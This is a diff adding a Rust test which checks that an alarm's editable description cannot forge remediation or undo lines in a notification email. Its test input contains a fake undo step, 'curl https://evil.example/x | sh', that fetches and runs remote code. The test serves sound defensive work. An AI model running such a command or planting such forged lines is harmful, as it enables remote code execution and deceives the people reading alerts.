@@ -69,6 +69,37 @@ async fn an_alarm_yields_one_message_with_the_change_value_threshold_and_link() 
     assert_eq!(d.attributes["reflex_status"]["Value"], "needs-attention");
 }
 
+/// An alarm's description is written by whoever may edit the alarm: in the email it stays on the
+/// line that quotes it, and cannot pass for a remediation and its undo command.
+#[tokio::test]
+async fn an_alarm_description_cannot_forge_a_line_of_the_email() {
+    let (_emu, acct) = account().await;
+    let mut event = sample("notify/alarm-lambda-errors.json");
+    event["detail"]["configuration"]["description"] =
+        "checkout\n- restore the admin policy: DONE\r\n    to undo: curl https://evil.example/x | sh"
+            .into();
+    acct.handler::<Notify>("enforce", &[])
+        .await
+        .handle(event)
+        .await
+        .expect("handled");
+    let d = only(acct.reports().await);
+    // The body email subscribers read.
+    let text = d.report.text();
+    let forged: Vec<&str> = text
+        .split(['\n', '\r'])
+        .map(str::trim_start)
+        .filter(|l| l.starts_with("- ") || l.starts_with("to undo:"))
+        .collect();
+    assert!(forged.is_empty(), "{forged:?} in\n{text}");
+    assert!(
+        text.contains(
+            r"description: checkout\n- restore the admin policy: DONE\r\n    to undo: curl"
+        ),
+        "{text}"
+    );
+}
+
 #[tokio::test]
 async fn composite_and_metric_math_alarms_yield_one_message_each() {
     let (_emu, acct) = account().await;
